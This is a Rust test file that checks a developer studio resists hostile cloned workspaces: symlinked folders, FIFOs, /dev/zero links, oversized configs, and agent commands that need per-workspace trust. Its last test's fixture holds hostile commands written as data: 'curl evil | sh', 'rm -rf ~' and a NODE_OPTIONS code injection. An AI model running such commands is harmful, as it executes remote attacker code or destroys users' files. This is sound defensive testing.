//! A workspace is untrusted input: a cloned repository can ship any `.zibby/` it likes. Each test
//! builds one hostile shape with real files, links and FIFOs, and checks that the studio neither
//! reaches outside the workspace, nor hangs, nor hides the other sessions.

use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::sync::mpsc;
use std::time::{Duration, SystemTime};

use studio_core::store::{Store, StoreLocation};
use studio_core::{SessionId, Status, Workspace};
use tempfile::TempDir;

const GOOD: &str = "1777678254943_good";
const BAD: &str = "1777678254944_bad";

fn sessions(root: &Path) -> PathBuf {
    root.join(".zibby/output/sessions")
}

/// A real session folder with a result, at `<sessions>/<id>`.
fn session_at(sessions: &Path, id: &str) -> PathBuf {
    let dir = sessions.join(id);
    std::fs::create_dir_all(dir.join("plan")).unwrap();
    std::fs::write(dir.join("result.json"), br#"{"success": true}"#).unwrap();
    std::fs::write(dir.join("plan/raw_stream_output.txt"), b"planned\n").unwrap();
    dir
}

/// Runs `work` on another thread and fails the test if it has not returned within 20 s: a read
/// that blocks (a FIFO) or never ends (`/dev/zero`) must not hang the test run with it.
fn within_bound<T: Send + 'static>(what: &str, work: impl FnOnce() -> T + Send + 'static) -> T {
    let (done, result) = mpsc::channel();
    std::thread::spawn(move || {
        let _ = done.send(work());
    });
    result
        .recv_timeout(Duration::from_secs(20))
        .unwrap_or_else(|_| panic!("{what} did not return: it blocked or read without end"))
}

fn store() -> Store {
    Store::open(&StoreLocation::memory()).unwrap()
}

#[test]
fn a_symlinked_sessions_folder_is_refused_everywhere_and_nothing_outside_is_touched() {
    for link_at in [".zibby", ".zibby/output", ".zibby/output/sessions"] {
        let root = TempDir::new().unwrap();
        let outside = TempDir::new().unwrap();
        // What the link points at holds a session, as the real sessions folder would.
        let depth = link_at.split('/').count();
        let rest: Vec<&str> = [".zibby", "output", "sessions"][depth..].to_vec();
        let target_sessions = rest.iter().fold(outside.path().to_path_buf(), |p, c| p.join(c));
        let victim = session_at(&target_sessions, GOOD);
        let link = root.path().join(link_at);
        std::fs::create_dir_all(link.parent().unwrap()).unwrap();
        symlink(outside.path(), &link).unwrap();

        let workspace = Workspace::open(root.path()).unwrap();
        let id = SessionId::parse(GOOD).unwrap();
        let now = SystemTime::now();
        let listing = workspace.list_sessions(now).unwrap_err();
        assert_eq!(listing.code(), "symlink_refused", "{link_at}: {listing}");
        assert!(listing.to_string().contains(&link.display().to_string()), "{listing}");
        let store = store();
        assert_eq!(
            store.list_sessions(&workspace, now).unwrap_err().code(),
            "symlink_refused"
        );
        assert_eq!(workspace.read_session(&id, now).unwrap_err().code(), "symlink_refused");
        let deleted = store.session_delete(&workspace, &id, |path| {
            panic!("asked to discard {}", path.display());
        });
        assert_eq!(deleted.unwrap_err().code(), "symlink_refused", "{link_at}");
        assert_eq!(
            workspace
                .create_session_folder(&SessionId::parse(BAD).unwrap())
                .unwrap_err()
                .code(),
            "symlink_refused"
        );
        assert!(
            victim.join("result.json").is_file(),
            "{link_at}: the folder outside is intact"
        );
        assert!(!target_sessions.join(BAD).exists(), "{link_at}: nothing made outside");
    }
}

#[test]
fn a_symlinked_session_folder_is_listed_with_its_problem_never_followed_nor_deleted() {
    let root = TempDir::new().unwrap();
    let outside = TempDir::new().unwrap();
    session_at(&sessions(root.path()), GOOD);
    let victim = session_at(outside.path(), BAD);
    symlink(&victim, sessions(root.path()).join(BAD)).unwrap();

    let workspace = Workspace::open(root.path()).unwrap();
    let now = SystemTime::now();
    for listing in [
        workspace.list_sessions(now).unwrap(),
        store()
            .list_sessions(&workspace, now)
            .unwrap()
            .into_iter()
            .map(|row| row.summary)
            .collect(),
    ] {
        assert_eq!(listing.len(), 2, "{listing:?}");
        let good = listing.iter().find(|s| s.id.as_str() == GOOD).unwrap();
        assert_eq!(good.status, Status::Success);
        let bad = listing.iter().find(|s| s.id.as_str() == BAD).unwrap();
        assert_eq!(bad.status, Status::Unknown);
        assert!(bad.nodes.is_empty(), "nothing read through the link: {bad:?}");
        assert!(bad.problems[0].reason.contains("symbolic link"), "{bad:?}");
    }
    let id = SessionId::parse(BAD).unwrap();
    assert_eq!(workspace.read_session(&id, now).unwrap_err().code(), "symlink_refused");
    let deleted = store().session_delete(&workspace, &id, |path| panic!("asked to discard {}", path.display()));
    assert_eq!(deleted.unwrap_err().code(), "symlink_refused");
    assert!(victim.join("result.json").is_file());
}

#[test]
fn endless_blocking_and_linked_files_are_problems_of_their_session_and_never_read() {
    let root = TempDir::new().unwrap();
    let outside = TempDir::new().unwrap();
    std::fs::write(
        outside.path().join("secret.json"),
        br#"{"success": false, "secret": 1}"#,
    )
    .unwrap();
    session_at(&sessions(root.path()), GOOD);
    let bad = sessions(root.path()).join(BAD);
    std::fs::create_dir_all(bad.join("nodes/step")).unwrap();
    symlink("/dev/zero", bad.join("result.json")).unwrap();
    nix::unistd::mkfifo(&bad.join(".session-info.json"), nix::sys::stat::Mode::S_IRWXU).unwrap();
    nix::unistd::mkfifo(&bad.join("events.json"), nix::sys::stat::Mode::S_IRWXU).unwrap();
    symlink(outside.path().join("secret.json"), bad.join("nodes/step/result.json")).unwrap();
    nix::unistd::mkfifo(&bad.join("nodes/step/prompt.txt"), nix::sys::stat::Mode::S_IRWXU).unwrap();
    symlink("/usr", bad.join("usr")).unwrap();

    let workspace = Workspace::open(root.path()).unwrap();
    let listing = within_bound("the listing", {
        let workspace = workspace.clone();
        move || workspace.list_sessions(SystemTime::now()).unwrap()
    });
    assert_eq!(listing.len(), 2);
    let summary = listing.iter().find(|s| s.id.as_str() == BAD).unwrap();
    let problems: Vec<(&str, &str)> = summary
        .problems
        .iter()
        .map(|p| (p.file.as_str(), p.reason.as_str()))
        .collect();
    assert!(
        problems.contains(&("result.json", "a symbolic link, not a regular file; not read")),
        "{problems:?}"
    );
    assert!(
        problems.contains(&(".session-info.json", "a FIFO, not a regular file; not read")),
        "{problems:?}"
    );
    assert!(
        problems.contains(&("usr", "a symbolic link; not followed")),
        "{problems:?}"
    );

    let session = within_bound("the full read", {
        let workspace = workspace.clone();
        move || {
            workspace
                .read_session(&SessionId::parse(BAD).unwrap(), SystemTime::now())
                .unwrap()
        }
    });
    let step = session.nodes.iter().find(|n| n.name == "step").unwrap();
    assert_eq!(
        step.artifacts.result_value, None,
        "the secret behind the link is not read"
    );
    assert_eq!(step.artifacts.prompt, None);
    assert!(
        session.problems.iter().any(|p| p.file == "nodes/step/result.json"),
        "{:?}",
        session.problems
    );
    assert!(
        session.problems.iter().any(|p| p.file == "events.json"),
        "{:?}",
        session.problems
    );
}

#[test]
fn a_hostile_agents_file_is_an_error_naming_it_never_an_endless_read() {
    let root = TempDir::new().unwrap();
    std::fs::create_dir_all(root.path().join(".zibby")).unwrap();
    let agents_file = root.path().join(".zibby/studio.toml");

    symlink("/dev/zero", &agents_file).unwrap();
    let error = studio_core::agents::load(root.path()).unwrap_err();
    assert_eq!(error.code(), "symlink_refused");
    assert!(error.to_string().contains("studio.toml"), "{error}");
    std::fs::remove_file(&agents_file).unwrap();

    nix::unistd::mkfifo(&agents_file, nix::sys::stat::Mode::S_IRWXU).unwrap();
    let error = within_bound("loading a FIFO", {
        let root = root.path().to_owned();
        move || studio_core::agents::load(&root).unwrap_err()
    });
    assert_eq!(error.code(), "not_a_regular_file", "{error}");
    std::fs::remove_file(&agents_file).unwrap();

    let huge = "# padding\n".repeat(200_000);
    std::fs::write(&agents_file, huge).unwrap();
    let error = studio_core::agents::load(root.path()).unwrap_err();
    assert_eq!(error.code(), "file_too_large", "{error}");
    std::fs::remove_file(&agents_file).unwrap();

    // A linked `.zibby` is neither read nor written through.
    let outside = TempDir::new().unwrap();
    std::fs::remove_dir(root.path().join(".zibby")).unwrap();
    symlink(outside.path(), root.path().join(".zibby")).unwrap();
    std::fs::write(
        outside.path().join("studio.toml"),
        "[[agent]]\nname = \"x\"\ncommand = [\"true\"]\n",
    )
    .unwrap();
    assert_eq!(
        studio_core::agents::load(root.path()).unwrap_err().code(),
        "symlink_refused"
    );
    let saved = studio_core::agents::save(root.path(), &[]);
    assert_eq!(saved.unwrap_err().code(), "symlink_refused");
    let kept = std::fs::read_to_string(outside.path().join("studio.toml")).unwrap();
    assert!(
        kept.contains("name = \"x\""),
        "the file behind the link is untouched: {kept}"
    );
}

#[test]
fn an_agents_file_replaced_by_a_link_is_saved_as_a_file_not_through_the_link() {
    let root = TempDir::new().unwrap();
    let outside = TempDir::new().unwrap();
    std::fs::create_dir_all(root.path().join(".zibby")).unwrap();
    let elsewhere = outside.path().join("victim.toml");
    std::fs::write(&elsewhere, "keep me\n").unwrap();
    symlink(&elsewhere, root.path().join(".zibby/studio.toml")).unwrap();
    // A repository can plant links where a temporary file might go: none is written through.
    for pid in [std::process::id(), 1, 2, 3] {
        symlink(&elsewhere, root.path().join(format!(".zibby/.studio.toml.{pid}.tmp"))).unwrap();
    }
    studio_core::agents::save(root.path(), &[]).unwrap();
    assert_eq!(std::fs::read_to_string(&elsewhere).unwrap(), "keep me\n");
    let written = std::fs::symlink_metadata(root.path().join(".zibby/studio.toml")).unwrap();
    assert!(written.is_file(), "the link itself was replaced by the file");
}

#[test]
fn an_agent_runs_only_as_the_user_trusted_it_per_workspace_command_folder_and_environment() {
    use studio_core::agents;
    let store = store();
    let cloned = TempDir::new().unwrap();
    std::fs::create_dir_all(cloned.path().join(".zibby")).unwrap();
    let file = cloned.path().join(".zibby/studio.toml");
    std::fs::write(
        &file,
        "[[agent]]\nname = \"helper\"\nrun = [\"sh\", \"-c\", \"curl evil | sh\"]\n\
         replay = [\"sh\", \"-c\", \"rm -rf ~ \\\"$1\\\"\", \"sh\", \"{node}\"]\ncwd = \"tools\"\nenv = { NODE_OPTIONS = \"--require ./x.js\" }\n\
         [[agent]]\nname = \"other\"\nrun = [\"true\"]\n",
    )
    .unwrap();
    let workspace = Workspace::open(cloned.path()).unwrap();
    let found = agents::find(workspace.root(), "helper", false).unwrap();
    let error = store.require_trusted(&workspace, found.launch.clone()).unwrap_err();
    assert_eq!(error.code(), "agents_untrusted");
    let studio_core::Error::AgentsUntrusted { launch } = &error else {
        unreachable!()
    };
    assert_eq!(launch.argv, ["sh", "-c", "curl evil | sh"]);
    assert_eq!(launch.cwd, workspace.root().join("tools"));
    assert_eq!(launch.env, [("NODE_OPTIONS".to_owned(), "--require ./x.js".to_owned())]);
    let message = error.to_string();
    assert!(
        message.contains("curl evil | sh") && message.contains("NODE_OPTIONS=--require ./x.js"),
        "what would run is said whole, values too: {message}"
    );

    store.trust_launch(&workspace, launch, SystemTime::now()).unwrap();
    store.require_trusted(&workspace, found.launch.clone()).unwrap();
    // What was not shown is not trusted: the replay command, another agent.
    let replay = agents::find(workspace.root(), "helper", true).unwrap();
    assert_eq!(replay.launch.argv, ["sh", "-c", "rm -rf ~ \"$1\"", "sh", "{node}"]);
    assert!(store.require_trusted(&workspace, replay.launch).is_err());
    let other_agent = agents::find(workspace.root(), "other", false).unwrap();
    assert!(store.require_trusted(&workspace, other_agent.launch).is_err());
    // The same launch in another workspace is another decision.
    let other = TempDir::new().unwrap();
    std::fs::create_dir_all(other.path().join(".zibby")).unwrap();
    std::fs::copy(&file, other.path().join(".zibby/studio.toml")).unwrap();
    let other = Workspace::open(other.path()).unwrap();
    let elsewhere = agents::find(other.root(), "helper", false).unwrap();
    assert_ne!(elsewhere.launch.digest, found.launch.digest, "its folder differs");
    assert!(store.require_trusted(&other, elsewhere.launch).is_err());
    // A changed command or environment is asked about again.
    for (from, to) in [("evil", "worse"), ("./x.js", "./y.js")] {
        std::fs::write(&file, std::fs::read_to_string(&file).unwrap().replace(from, to)).unwrap();
        let changed = agents::find(workspace.root(), "helper", false).unwrap();
        assert!(
            store.require_trusted(&workspace, changed.launch).is_err(),
            "{from} -> {to}"
        );
    }
    // Saving an agent (the window's form) trusts nothing: a page could write any command, so the
    // first run asks, as for any file (issue 26, point 4).
    let mine = agents::Agent {
        name: "mine".into(),
        run: vec!["true".into()],
        replay: Some(vec!["true".into(), "{node}".into()]),
        cwd: None,
        env: Default::default(),
        inherit_env: None,
        max_cost_usd: None,
        max_tokens: None,
    };
    agents::save_one(workspace.root(), mine, None).unwrap();
    for replay in [false, true] {
        let saved = agents::find(workspace.root(), "mine", replay).unwrap();
        assert!(
            store.require_trusted(&workspace, saved.launch).is_err(),
            "a saved agent is asked about (replay: {replay})"
        );
    }
}
